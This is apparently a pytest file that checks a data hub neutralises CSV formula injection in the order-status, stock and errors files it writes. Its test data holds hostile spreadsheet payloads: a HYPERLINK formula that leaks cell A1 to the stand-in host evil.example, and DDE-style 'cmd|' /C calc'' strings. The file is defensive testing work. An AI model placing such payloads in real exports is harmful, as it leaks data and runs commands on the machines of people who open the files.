"""Every CSV the hub writes is safe to open in a spreadsheet: a cell that would run as a
formula (OWASP's CSV injection rule) is written as text, and the hub reads its own
errors files back to the values that were dropped."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from decimal import Decimal
from pathlib import Path

import pytest

from causeway.config import parse_config
from causeway.config.systems import FilesSystem
from causeway.connectors.files.exports import OrderStatus, order_status_csv, stock_csv
from causeway.connectors.files.safe_csv import neutralise, restore
from causeway.hub import Hub
from tests.unit.files_support import drop_whole, exchange, hub_config

ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"Track")'
QUOTED_ATTACK = '"' + ATTACK.replace('"', '""') + '"'  # as a CSV cell
HEADER = "order_number,ordered_at,sku,quantity,unit_price\n"


@pytest.fixture
def hub(tmp_path: Path) -> Iterator[Hub]:
    running = Hub(parse_config(hub_config(tmp_path), env={}))
    yield running
    running.stop()


def drop(folder: Path, name: str, content: str) -> None:
    drop_whole(folder / "in" / name, content)


def cells(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_text())))


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_text_a_spreadsheet_would_run_gets_a_quote_in_front(start: str) -> None:
    text = f"{start}1+cmd|' /C calc'!A0"
    assert neutralise(text) == "'" + text
    assert restore(neutralise(text)) == text


def test_numbers_and_plain_text_are_written_as_they_are() -> None:
    assert neutralise(-5) == -5 and neutralise(Decimal("-1.50")) == Decimal("-1.50")
    assert neutralise("SO-1001") == "SO-1001" and neutralise(None) == ""
    assert restore("'quoted by the sender") == "'quoted by the sender"  # no formula after it
    system = FilesSystem(type="files", folder="/unused")
    assert stock_csv({"-WID": 0, "WID-001": 12}, system).decode().splitlines() == [
        "sku,available",
        "'-WID,0",
        "WID-001,12",
    ]


def test_a_formula_in_an_order_comes_out_neutralised_in_order_status(
    hub: Hub, tmp_path: Path
) -> None:
    folder = tmp_path / "drop"
    drop(folder, "orders.csv", HEADER + f"{QUOTED_ATTACK},2026-11-27,WID-001,1,10.00\n")

    run = exchange(hub).import_waiting()
    exchange(hub).write_status()

    assert run.orders == 1
    (_, row) = cells(folder / "out" / "order-status.csv")
    assert row[0] == "'" + ATTACK and row[1] == "received"


def test_the_problem_of_a_failed_order_is_neutralised_too() -> None:
    system = FilesSystem(type="files", folder="/unused")
    data = order_status_csv(
        [OrderStatus("1001", "failed", updated_at=0.0, problem="@SUM(1+1)*cmd|' /C calc'!A0")],
        system,
    )
    (_, row) = list(csv.reader(io.StringIO(data.decode())))
    assert row[-1] == "'@SUM(1+1)*cmd|' /C calc'!A0"


def test_a_formula_in_a_bad_row_is_neutralised_in_the_errors_file_and_comes_back_whole(
    hub: Hub, tmp_path: Path
) -> None:
    folder = tmp_path / "drop"
    drop(folder, "orders.csv", HEADER + f"{QUOTED_ATTACK},2026-11-27,WID-001,-1,10.00\n")

    run = exchange(hub).import_waiting()

    assert (run.orders, run.bad_rows) == (0, 1)
    report = folder / "errors" / "orders.csv.errors.csv"
    header, row = cells(report)
    assert header == ["order_number", "ordered_at", "sku", "quantity", "unit_price", "reason"]
    assert row[0] == "'" + ATTACK and row[3] == "'-1"
    assert row[5] == "orders.csv row 2, column quantity: '-1' must be at least 1"

    # Fixed in the errors file and dropped again: the order number is the one first sent.
    drop(folder, "fixed.csv", report.read_text().replace(",'-1,", ",1,"))
    again = exchange(hub).import_waiting()
    assert (again.orders, again.bad_rows) == (1, 0)
    exchange(hub).write_status()
    (_, status) = cells(folder / "out" / "order-status.csv")
    assert status[0] == "'" + ATTACK  # the order is ATTACK itself, written safely again


def test_a_rejected_file_named_like_a_formula_gets_a_safe_reason(hub: Hub, tmp_path: Path) -> None:
    folder = tmp_path / "drop"
    drop(folder, "=cmd.csv", "order_number,sku\n1,WID-001\n")
    exchange(hub).import_waiting()
    (header, row) = cells(folder / "errors" / "=cmd.csv.errors.csv")
    assert header == ["reason"] and row[0].startswith("'=cmd.csv: column 'ordered_at'")
